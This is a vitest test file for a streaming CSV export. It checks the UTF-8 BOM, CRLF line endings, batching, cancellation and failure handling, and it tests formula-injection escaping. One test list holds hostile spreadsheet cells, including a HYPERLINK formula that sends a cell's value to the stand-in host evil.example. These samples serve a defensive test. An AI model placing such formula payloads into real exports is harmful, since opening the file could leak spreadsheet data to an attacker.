import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { BATCH_ROWS, type ExportTable, streamCsv } from './stream-csv.ts';
import type { Columns } from './write-csv.ts';

type Row = { id: number; text: string | null };

const columns: Columns<Row> = { ID: ({ id }) => id, Text: ({ text }) => text };

/** Creates a table of `total` rows that records the start of each batch. */
function makeTable(total: number, textOf: (id: number) => string | null = (id) => `row ${id}`) {
  const begun: number[] = [];
  const table: ExportTable<Row> = {
    columns,
    async readBatch(afterId, limit) {
      begun.push(afterId);
      const length = Math.min(limit, total - afterId);
      return Array.from({ length }, (_, index) => ({
        id: afterId + index + 1,
        text: textOf(afterId + index + 1),
      }));
    },
  };
  return { table, begun };
}

const readAll = async (table: ExportTable<Row>) =>
  Buffer.from(await new Response(streamCsv(table)).arrayBuffer());

const parseFile = (file: Buffer): Record<string, string>[] => parse(file, { bom: true, columns: true });

test('a file begins with the mark of UTF-8, its headings in words, and ends its lines with CRLF', async () => {
  const file = await readAll(makeTable(2, () => '한글, "quoted"\nand a second line').table);
  expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(file.toString('utf8').slice(1).split('\r\n')).toHaveLength(4);
  expect(parseFile(file)).toEqual([
    { ID: '1', Text: '한글, "quoted"\nand a second line' },
    { ID: '2', Text: '한글, "quoted"\nand a second line' },
  ]);
});

test('a second line stays in its cell, whatever else the text holds', async () => {
  const file = await readAll(makeTable(1, () => 'a\n=1+1').table);
  expect(String(file)).toContain('"a\n=1+1"');
});

test('an empty table is its headings', async () => {
  expect(String(await readAll(makeTable(0).table))).toBe('\uFEFFID,Text\r\n');
});

test.each([
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=1+1\r\n=2+2',
])('a cell that a spreadsheet would run is text: %j', async (hostile) => {
  const [row] = parseFile(await readAll(makeTable(1, () => hostile).table));
  expect(row?.['Text']).toBe(`'${hostile}`);
});

test.each(['1 = 1', 'a@b.example', ' plain ', '3-5', "'quoted'", '₩1,000'])(
  'a cell that is harmless is as it was: %j',
  async (harmless) => {
    const [row] = parseFile(await readAll(makeTable(1, () => harmless).table));
    expect(row?.['Text']).toBe(harmless);
  },
);

test('every row is there once, a batch after the other', async () => {
  const { table, begun } = makeTable(BATCH_ROWS * 3 + 7);
  const rows = parseFile(await readAll(table));
  expect(rows).toHaveLength(BATCH_ROWS * 3 + 7);
  expect(new Set(rows.map(({ ID }) => ID)).size).toBe(rows.length);
  expect(begun).toEqual([0, BATCH_ROWS, BATCH_ROWS * 2, BATCH_ROWS * 3]);
});

test('an export reads no rows before they are requested and none after the reader has gone', async () => {
  const { table, begun } = makeTable(1_000_000);
  const reader = streamCsv(table).getReader();
  const pause = () => new Promise((resolve) => setTimeout(resolve, 20));
  await pause();
  expect(begun).toEqual([]);
  await reader.read();
  await pause();
  expect(begun).toEqual([]);
  await reader.read();
  await reader.read();
  await pause();
  expect(begun).toEqual([0, BATCH_ROWS]);
  await reader.cancel();
  await pause();
  expect(begun).toHaveLength(2);
});

test('a failing query fails the file instead of ending it as if it were whole', async () => {
  const table: ExportTable<Row> = {
    columns,
    readBatch: async (afterId) => {
      if (afterId > 0) throw new Error('the database has gone');
      return Array.from({ length: BATCH_ROWS }, (_, index) => ({ id: index + 1, text: null }));
    },
  };
  await expect(readAll(table)).rejects.toThrow('the database has gone');
});
